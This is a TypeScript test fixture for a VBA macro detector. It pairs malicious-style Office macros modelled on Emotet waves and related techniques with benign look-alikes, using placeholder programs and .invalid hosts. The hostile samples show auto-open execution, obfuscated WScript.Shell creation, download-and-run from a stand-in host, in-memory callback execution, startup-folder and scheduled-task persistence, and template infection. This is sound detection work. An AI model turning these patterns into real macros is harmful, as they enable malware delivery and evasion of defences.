/**
 * Macro texts of our own: in the styles of attacks, and their honest twins. Harmless by construction: the programs do not exist,
 * the hosts end in .invalid, the encoded texts encode nothing, and no text was taken from malware.
 */
import type { ModuleParts } from './vba';

const inDocument = (source: string): readonly ModuleParts[] => [{ name: 'ThisDocument', kind: 'document', source }];
const inWorkbook = (source: string): readonly ModuleParts[] => [{ name: 'ThisWorkbook', kind: 'document', source }];

/** Names without sense, the same every time. */
export function randomNames(count: number, seed = 7): readonly string[] {
  let state = seed;
  const next = (limit: number): number => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return (state >>> 8) % limit;
  };
  return Array.from({ length: count }, () =>
    Array.from({ length: 8 + next(5) }, (_, index) => {
      const letter = 'bcdfghjkqvwxzaizmtpl'[next(20)] ?? 'z';
      return index === 0 ? letter.toUpperCase() : letter;
    }).join(''),
  );
}

const junk = randomNames(40);
const junkLines = junk.map((name, index) => `${name} = ${index} * Sin(${junk[(index + 7) % 40] ?? 'x'})`).join('\n');

/** Attack styles by the name of the technique. Each must be told as starting a program. */
export const hostileMacros: Readonly<Record<string, readonly ModuleParts[]>> = {
  // ── Emotet, wave by wave ──
  'emotet 2018: Shell of joined junk': inDocument(`Sub autoopen()
On Error Resume Next
${junkLines}
VBA.Shell# "" + ${junk[1] ?? ''} + "notr" + "eal.exe /x", vbHide
End Sub`),
  'emotet 2018: [Shell] with blanks': inDocument(
    'Sub AutoOpen()\nInteraction        .[Shell!] "notreal.exe", 0\nEnd Sub',
  ),
  'emotet 2018: call over modules': [
    { name: 'ThisDocument', kind: 'document', source: 'Private Sub Document_Open()\nWpoRzq\nEnd Sub' },
    {
      name: 'Module1',
      source: 'Public Function WpoRzq()\nShell ChrW(110) & Chr$(111) & Chr(116) & "real.exe", 0\nEnd Function',
    },
  ],
  'emotet 2019: WMI with a hidden window': inDocument(`Sub autoopen()
Set a = GetObject("winmgmts:Win32_ProcessStartup")
a.ShowWindow = 0
GetObject("winmgmts:Win32_Process").Create "notreal.exe", Null, a, b
End Sub`),
  'emotet 2019: WMI torn apart': inDocument(`Sub Document_Open()
Set qx = GetObject("wi" + zz + "nmg" + "mts:Wi" + "n32_" & "Pro" + "cess")
qx.Create Chr(110) + "otreal.exe"
End Sub`),
  'emotet 2019: caption of a form, in a class': [
    { name: 'ThisDocument', kind: 'document', source: 'Public Sub autoopen()\nDim k As New Class1\nk.Bring\nEnd Sub' },
    { name: 'Class1', kind: 'class', source: 'Public Sub Bring()\nShell UserForm1.Label1.Caption, 0\nEnd Sub' },
    { name: 'UserForm1', kind: 'form', source: 'Option Explicit' },
  ],
  'emotet 2020: computed object, late call': [
    { name: 'ThisDocument', kind: 'document', source: 'Private Sub Document_open()\nStoreIt.Fetch\nEnd Sub' },
    {
      name: 'StoreIt',
      kind: 'form',
      source: `Function Fetch()
piece = Mid(StoreIt.Box1.Tag, 3, 20)
Set made = CreateObject(piece)
made.Create Turn(StoreIt.Box2.Tag), last, Show
End Function
Function Turn(x)
Turn = Join(Split(x, "#@"), "")
End Function`,
    },
  ],
  'emotet 2020: random names only': inDocument(
    `Private Sub Document_open()\n${junkLines}\nCall ${junk[3] ?? ''}\nEnd Sub`,
  ),
  'emotet 2021: batch file in ProgramData': inDocument(`Sub AutoOpen()
Open "c:\\programdata\\notreal.bat" For Output As #1
Print #1, "rem nothing"
Close #1
x = Shell("cmd /c c:\\programdata\\notreal.bat", 0)
End Sub`),
  'batch file in ProgramData, opened by the shell': inDocument(`Sub AutoOpen()
s = "start notreal"
Open "C:\\ProgramData\\abc.bat" For Output As #1
Print #1, s
Close #1
Set y = CreateObject("Shell.Application")
y.Open "C:\\ProgramData\\abc.bat"
End Sub`),
  'emotet 2021: activate instead of open': inWorkbook(
    'Private Sub Workbook_Activate()\nCreateObject("WScript.Shell").Run "notreal.exe", 0\nEnd Sub',
  ),
  'emotet 2023: download and regsvr32':
    inDocument(`Private Declare PtrSafe Function Bring Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Sub AutoOpen()
Bring 0, "http://files.invalid/?123456", Environ("TEMP") & "\\notreal.zip", 0, 0
CreateObject("Shell.Application").Namespace(Environ("TEMP")).CopyHere Environ("TEMP") & "\\notreal.zip"
Shell "regsvr32 /s notreal.dll"
End Sub`),
  // ── Kin ──
  'type suffix dollar': inWorkbook('Sub Auto_Open()\nx = Shell$("notreal.exe")\nEnd Sub'),
  'call with brackets in one line': inWorkbook('Sub Workbook_Open(): Call Shell("notreal.exe", 0): End Sub'),
  'WScript.Shell with Exec': inDocument(
    'Sub Document_Open()\nSet w = CreateObject("WScript.Shell")\nSet r = w.Exec("notreal.exe")\nEnd Sub',
  ),
  'WScript.Shell under the name of an application': inDocument(
    'Sub Document_Open()\nSet xl = CreateObject("WScript.Shell")\nxl.Run "notreal.exe", 0\nEnd Sub',
  ),
  'WScript.Shell under a name that is an application elsewhere': inDocument(
    'Sub Document_Open()\nSet a = CreateObject("WScript.Shell")\na.Run "notreal.exe", 0\nEnd Sub\nSub B()\nSet a = CreateObject("Access.Application")\nEnd Sub',
  ),
  'WScript.Shell behind a condition, under a name that is an application elsewhere': inDocument(
    'Sub Document_Open()\nSet a = CreateObject("Access.Application")\nIf "b.application" <> "" Then Set a = CreateObject("WScript.Shell")\na.Run "notreal.exe", 0\nEnd Sub',
  ),
  'WScript.Shell handed over under the name of an application': inDocument(
    'Sub Document_Open()\nSet a = New Access.Application\nGo CreateObject("WScript.Shell")\nEnd Sub\nSub Go(a)\na.Run "notreal /b", "a", 0\nEnd Sub',
  ),
  'WScript.Shell early bound': inDocument('Sub Document_Open()\nDim w As New WshShell\nw.Run "notreal.exe"\nEnd Sub'),
  'WScript.Shell reversed': inDocument(
    'Sub Document_Open()\nSet w = CreateObject(StrReverse("llehS.tpircSW"))\nw.Run "notreal.exe"\nEnd Sub',
  ),
  'WScript.Shell from Replace': inDocument(
    'Sub AutoOpen()\nSet w = CreateObject(Replace("W##Scr##ipt.She##ll", "##", ""))\nw.Run "x"\nEnd Sub',
  ),
  'WScript.Shell from variables': inDocument(
    'Sub AutoOpen()\na = "WScr"\nb = "ipt.Sh"\nc = "ell"\nCreateObject(a & b & c).Run d\nEnd Sub',
  ),
  'WScript.Shell from an array': inDocument(
    'Sub AutoOpen()\nCreateObject(Join(Array("WScr", "ipt.", "Shell"), "")).Run "x"\nEnd Sub',
  ),
  'own decoder': inDocument(
    'Sub AutoOpen()\nSet o = CreateObject(Dec("XTdsjqu/Tifmm"))\no.Run Dec("opusfbm/fyf")\nEnd Sub\nFunction Dec(s)\nFor i = 1 To Len(s)\nDec = Dec & Chr(Asc(Mid(s, i, 1)) - 1)\nNext\nEnd Function',
  ),
  'API download and Shell':
    inWorkbook(`Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
Sub Workbook_Open()
URLDownloadToFile 0, "http://files.invalid/a", "C:\\nowhere\\notreal.exe", 0, 0
Shell "C:\\nowhere\\notreal.exe"
End Sub`),
  'XMLHTTP, ADODB.Stream, saved and run': inWorkbook(`Sub Workbook_Open()
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://files.invalid/a", False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write h.responseBody
s.SaveToFile Environ("TEMP") & "\\notreal.exe", 2
Shell Environ("TEMP") & "\\notreal.exe"
End Sub`),
  'XMLHTTP saved, started by nobody that we see': inWorkbook(`Sub Workbook_Open()
Set h = CreateObject("Microsoft.XMLHTTP")
h.Open "GET", "http://files.invalid/a", False
h.Send
With CreateObject("ADODB.Stream")
.Write h.responseBody
.SaveToFile target, 2
End With
End Sub`),
  'declared CreateProcess':
    inDocument(`Private Declare PtrSafe Function Launch Lib "kernel32   " Alias "CreateProcessA" (ByVal a As String, b As Any) As Long
Sub Document_Open()
Launch "notreal.exe", 0
End Sub`),
  'memory and callback':
    inDocument(`Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPtr, ByRef b As Any, ByVal c As Long) As LongPtr
Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long) As Long
Sub AutoOpen()
block = Array(1, 2, 3, 4)
p = VirtualAlloc(0, 4, &H3000, &H40)
RtlMoveMemory p, block(0), 4
EnumSystemLocalesA p, 0
End Sub`),
  'memory under other names':
    inWorkbook(`Private Declare Function Garden Lib "ntdll" Alias "NtAllocateVirtualMemory" (a As Long) As Long
Private Declare Function Flower Lib "kernel32" Alias "HeapCreate" (ByVal a As Long) As Long
Sub Auto_Open()
x = Garden(Flower(&H40000))
End Sub`),
  'callback with copied memory':
    inWorkbook(`Private Declare Function Copy Lib "kernel32" Alias "RtlMoveMemory" (a As Any, b As Any, ByVal c As Long) As Long
Private Declare Function Walk Lib "user32" Alias "EnumChildWindows" (ByVal a As Long, ByVal b As Long, ByVal c As Long) As Long
Sub Workbook_Open()
Copy ByVal place, block(0), 4
Walk 0, place, 0
End Sub`),
  'hand over to a sheet': inWorkbook(
    'Sub Auto_Open()\nApplication.ExecuteExcel4Macro "EXEC(""notreal.exe"")"\nEnd Sub',
  ),
  'macro sheet made at opening': inWorkbook(
    'Sub Auto_Open()\nSheets.Add Type:=xlExcel4MacroSheet\nApplication.Run Sheets(1).Range("A1")\nEnd Sub',
  ),
  'mshta torn apart': inDocument('Sub AutoOpen()\ncmd = "msh" & "ta http://files.invalid/a"\nShell cmd\nEnd Sub'),
  'rundll32 reversed through Shell.Application': inDocument(
    'Sub AutoOpen()\nCreateObject("Shell.Application").ShellExecute StrReverse("23lldnur"), "notreal.dll,x", "", "open", 0\nEnd Sub',
  ),
  'certutil decode': inDocument(
    'Sub Document_Open()\nRunIt "certutil -decode C:\\nowhere\\a.txt C:\\nowhere\\notreal.exe"\nEnd Sub\nSub RunIt(c)\nCreateObject("WScript.Shell").Run c, 0\nEnd Sub',
  ),
  'class id of a shell': inDocument(
    'Sub AutoOpen()\nGetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Run "notreal.exe"\nEnd Sub',
  ),
  'shell window by class id': inDocument(
    'Sub AutoOpen()\nSet o = GetObject("new:9BA05972-F6A8-11CF-A442-00A0C90A8F39")\no.item().Document.Application.ShellExecute "notreal.exe"\nEnd Sub',
  ),
  'on closing': inDocument('Private Sub Document_Close()\nShell "notreal.exe"\nEnd Sub'),
  'workbook before close': inWorkbook(
    'Private Sub Workbook_BeforeClose(Cancel As Boolean)\nCreateObject("WScript.Shell").Run "notreal.exe"\nEnd Sub',
  ),
  'auto close': inDocument('Sub AutoClose()\nShell "notreal.exe"\nEnd Sub'),
  'painted picture control': inDocument(
    'Private Sub InkPicture1_Painted(ByVal h As Long, ByVal r As Object)\nShell "notreal.exe"\nEnd Sub',
  ),
  'script in the startup folder': inDocument(
    'Sub AutoOpen()\nOpen Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\notreal.vbs" For Output As #1\nPrint #1, t\nClose #1\nEnd Sub',
  ),
  'scheduled task': inDocument(
    'Sub AutoOpen()\nSet s = CreateObject("Schedule.Service")\ns.Connect\nSet d = s.NewTask(0)\ns.GetFolder("\\").RegisterTaskDefinition "x", d, 6, "", "", 3\nEnd Sub',
  ),
  'scriptlet moniker': inDocument('Sub AutoOpen()\nSet o = GetObject("script:http://files.invalid/a.sct")\nEnd Sub'),
  'script opened by Explorer': inDocument(
    'Sub AutoOpen()\nOpen "C:\\nowhere\\notreal.hta" For Output As #1\nClose #1\nShell "explorer " & place\nEnd Sub',
  ),
  'copy into the template of all documents': inDocument(
    'Sub AutoClose()\nOptions.VirusProtection = False\nNormalTemplate.VBProject.VBComponents.Item(1).CodeModule.InsertLines 1, x\nEnd Sub',
  ),
  'object named in a list': inDocument(
    'Sub AutoOpen()\nCreateObject(Split("a|WScript.Shell", "|")(1)).Run "notreal.exe"\nEnd Sub',
  ),
  'member called by its name': inDocument(
    'Sub AutoOpen()\nCallByName CreateObject("WScript.Shell"), "Run", VbMethod, "notreal.exe"\nEnd Sub',
  ),
  'text saved as script, then started': inDocument(
    'Sub AutoOpen()\nActiveDocument.SaveAs2 FileName:="C:\\nowhere\\notreal.vbs", FileFormat:=2\nShell "wscript C:\\nowhere\\notreal.vbs"\nEnd Sub',
  ),
  'package opened, payload in a property': inDocument(
    'Sub AutoOpen()\nActiveDocument.InlineShapes(1).OLEFormat.DoVerb 0\nSet o = CreateObject(ActiveDocument.BuiltInDocumentProperties("Comments"))\nEnd Sub',
  ),
  'run by name, later': [
    {
      name: 'ThisWorkbook',
      kind: 'document',
      source: 'Private Sub Workbook_Open()\nApplication.OnTime Now + TimeValue("00:00:05"), "Later"\nEnd Sub',
    },
    { name: 'Module1', source: 'Sub Later()\nShell "notreal.exe"\nEnd Sub' },
  ],
  'event of a form that is loaded': [
    { name: 'ThisDocument', kind: 'document', source: 'Sub Document_Open()\nLoad frmStart\nEnd Sub' },
    { name: 'frmStart', kind: 'form', source: 'Private Sub UserForm_Initialize()\nShell "notreal.exe"\nEnd Sub' },
  ],
  'WMI through a locator': inDocument(
    'Sub AutoOpen()\nSet l = CreateObject("WbemScripting.SWbemLocator")\nSet s = l.ConnectServer(".", "root\\cimv2")\ns.Get("Win32_Process").Create "notreal.exe", Null, Null, p\nEnd Sub',
  ),
  'comments and continued lines': inDocument(
    'Sub AutoOpen() \' opens\nx = _\n  Shell( _\n  "notreal.exe" _\n  , 0)\nRem done\nEnd Sub',
  ),
};

/** Honest macros that look like the above; none may be told as starting a program. */
export const honestMacros: Readonly<Record<string, readonly ModuleParts[]>> = {
  'accounting workbook that saves itself': inWorkbook(`Private Sub Workbook_Open()
Sheets("Input").Activate
ActiveWorkbook.SaveAs Filename:=ThisWorkbook.Path & "\\" & Format(Date, "yyyymmdd") & ".xlsm"
End Sub`),
  'price list with buttons': inWorkbook(`Private Sub Workbook_Open()
Sheets("Prices").Range("A1").Select
End Sub
Private Sub CommandButton1_Click()
ActiveSheet.PrintOut
End Sub`),
  'Explorer from a button': inWorkbook(`Private Sub Workbook_Open()
Application.StatusBar = "Ready"
End Sub
Sub OpenFolder_Click()
Shell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus
End Sub`),
  'Explorer at opening': inWorkbook(
    'Private Sub Workbook_Open()\nShell "C:\\Windows\\explorer.exe " & ThisWorkbook.Path, vbNormalFocus\nEnd Sub',
  ),
  'Shell in comments and strings': inWorkbook(
    'Private Sub Workbook_Open()\n\' Shell "notreal.exe"\nRem Shell "notreal.exe"\nMsgBox "Shell ""notreal.exe"""\nEnd Sub',
  ),
  'a variable named shell': inWorkbook(
    'Private Sub Workbook_Open()\nDim shell As Object\nSet shell = CreateObject("WScript.Shell")\nSheets(1).Range("A1") = shell.SpecialFolders("Desktop")\nEnd Sub',
  ),
  'Declare for waiting and windows': [
    {
      name: 'Module1',
      source: `#If VBA7 Then
Private Declare PtrSafe Sub Sleep Lib "kernel32" (ByVal ms As Long)
Private Declare PtrSafe Function GetTickCount Lib "kernel32" () As Long
Private Declare PtrSafe Function FindWindow Lib "user32" Alias "FindWindowA" (ByVal a As String, ByVal b As String) As LongPtr
Private Declare PtrSafe Sub CopyMemory Lib "kernel32" Alias "RtlMoveMemory" (a As Any, b As Any, ByVal c As LongPtr)
#End If
Sub Auto_Open()
Sleep 100
If FindWindow("XLMAIN", Application.Caption) = 0 Then Exit Sub
CopyMemory x, y, 4
End Sub`,
    },
  ],
  'subclassing and timers': [
    {
      name: 'Module1',
      source: `Private Declare PtrSafe Function SetWindowLong Lib "user32" Alias "SetWindowLongA" (ByVal a As LongPtr, ByVal b As Long, ByVal c As LongPtr) As LongPtr
Private Declare PtrSafe Function CallWindowProc Lib "user32" Alias "CallWindowProcA" (ByVal a As LongPtr, ByVal b As LongPtr) As LongPtr
Private Declare PtrSafe Function SetTimer Lib "user32" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As Long, ByVal d As LongPtr) As LongPtr
Sub Auto_Open()
old = SetWindowLong(Application.Hwnd, -4, AddressOf WindowProc)
t = SetTimer(0, 0, 1000, AddressOf Tick)
End Sub
Function WindowProc(ByVal h As LongPtr, ByVal m As LongPtr) As LongPtr
WindowProc = CallWindowProc(old, h)
End Function
Sub Tick()
End Sub`,
    },
  ],
  'ribbon of an add-in': [
    {
      name: 'ThisWorkbook',
      kind: 'document',
      source: 'Private Sub Workbook_AddinInstall()\nMsgBox "Installed"\nEnd Sub',
    },
    {
      name: 'Ribbon',
      source:
        'Public Sub OnHelp(control As IRibbonControl)\nActiveWorkbook.FollowHyperlink "https://help.example/"\nEnd Sub',
    },
  ],
  'help page by ShellExecute':
    inWorkbook(`Private Declare PtrSafe Function ShellExecute Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As LongPtr, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long) As LongPtr
Private Sub Workbook_Open()
ShellExecute 0, "open", "https://help.example/start", "", "", 1
End Sub`),
  'dictionary and files': inWorkbook(`Private Sub Workbook_Open()
Set d = CreateObject("Scripting.Dictionary")
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(ThisWorkbook.Path & "\\export.csv", True)
f.WriteLine "a;b"
f.Close
End Sub`),
  'serial number by WMI': inWorkbook(`Private Sub Workbook_Open()
Set w = GetObject("winmgmts:\\\\" & "." & "\\root\\cimv2")
For Each o In w.ExecQuery("Select SerialNumber From Win32_BIOS")
Sheets(1).Range("A1") = o.SerialNumber
Next
End Sub`),
  'default printer by WMI, and a pivot table': inWorkbook(`Private Sub Workbook_Open()
Dim wmi, item
Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")
For Each item In wmi.ExecQuery("SELECT * FROM Win32_Printer WHERE Default = True")
Sheets(1).Range("B1").Value = item.Name
Next
Set pc = ThisWorkbook.PivotCaches.Create(SourceType:=xlDatabase, SourceData:="Data!A1:F500")
pc.CreatePivotTable TableDestination:="Pivot!R3C1", TableName:="Sales"
End Sub`),
  'web query with JSON': [
    {
      name: 'ThisWorkbook',
      kind: 'document',
      source: 'Private Sub Workbook_Open()\nSheets(1).Range("A1") = FetchRate("EUR")\nEnd Sub',
    },
    {
      name: 'Rates',
      source: `Function FetchRate(ByVal code As String) As Double
Dim http As Object
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "https://rates.example/v1/" & code, False
http.send
FetchRate = Val(http.responseText)
End Function`,
    },
  ],
  'object by name, a library': [
    {
      name: 'ThisWorkbook',
      kind: 'document',
      source: 'Private Sub Workbook_Open()\nSet d = NewObject("Scripting.Dictionary")\nEnd Sub',
    },
    {
      name: 'Tools',
      source:
        'Public Function NewObject(ByVal progId As String) As Object\nSet NewObject = CreateObject(progId)\nEnd Function',
    },
  ],
  'other workbook opened': inWorkbook(
    'Private Sub Workbook_Open()\nSet b = GetObject(ThisWorkbook.Path & "\\" & Range("A1").Value)\nApplication.Run "\'" & b.Name & "\'!Refresh"\nEnd Sub',
  ),
  'macro of a database, beside the path of the desktop': inWorkbook(`Private Sub Workbook_Open()
Range("B1").Value = CreateObject("WScript.Shell").SpecialFolders("Desktop")
Refresh
End Sub
Sub Refresh()
Dim acc As Object
Set acc = CreateObject("Access.Application")
acc.OpenCurrentDatabase Range("B2").Value
acc.Run "Export", Range("B1").Value
Set acc = Nothing
End Sub`),
  'macro of a database by early binding, beside the path of the desktop': inWorkbook(`Private Sub Workbook_Open()
Dim acc As New Access.Application, doc As Object
Range("B1").Value = CreateObject("WScript.Shell").SpecialFolders("Desktop")
acc.Run "Export"
Set doc = GetObject(, "Word.Application")
doc.Run "Print"
End Sub`),
  'toolbars hidden the old way': inWorkbook(
    'Private Sub Workbook_Open()\nApplication.ExecuteExcel4Macro "SHOW.TOOLBAR(""Ribbon"",False)"\nEnd Sub',
  ),
  'program from a button, beside a start': inWorkbook(`Private Sub Workbook_Open()
Application.WindowState = xlMaximized
End Sub
Sub StartScanner()
Shell "C:\\nowhere\\scanner.exe", vbNormalFocus
End Sub`),
  'long SQL in pieces': inWorkbook(`Private Sub Workbook_Open()
q = "SELECT a " & "FROM b " & "WHERE c = 1 " & "AND d = 2 " & "AND e = 3 " & "ORDER BY f " & "DESC" & ";" & vbCrLf & "GO"
Set c = CreateObject("ADODB.Connection")
c.Open "Provider=x"
c.Execute q
End Sub`),
  'form at opening': [
    { name: 'ThisWorkbook', kind: 'document', source: 'Private Sub Workbook_Open()\nfrmMenu.Show\nEnd Sub' },
    {
      name: 'frmMenu',
      kind: 'form',
      source:
        'Private Sub cmdTool_Click()\nShell "notepad.exe", 1\nShell "C:\\nowhere\\tool.exe", 1\nEnd Sub\nPrivate Sub UserForm_Initialize()\nMe.Caption = "Menu"\nEnd Sub',
    },
  ],
  'tidy up on closing': inWorkbook(
    'Private Sub Workbook_BeforeClose(Cancel As Boolean)\nKill Environ("TEMP") & "\\export.csv"\nThisWorkbook.Saved = True\nEnd Sub',
  ),
  'test suite with Run': [
    { name: 'ThisWorkbook', kind: 'document', source: 'Private Sub Workbook_Open()\nSpecs.RunAll\nEnd Sub' },
    {
      name: 'Specs',
      source: 'Public Sub RunAll()\nDim Suite As New SpecSuite\nSuite.Run "all"\nstdLambda.Create "x"\nEnd Sub',
    },
  ],
};
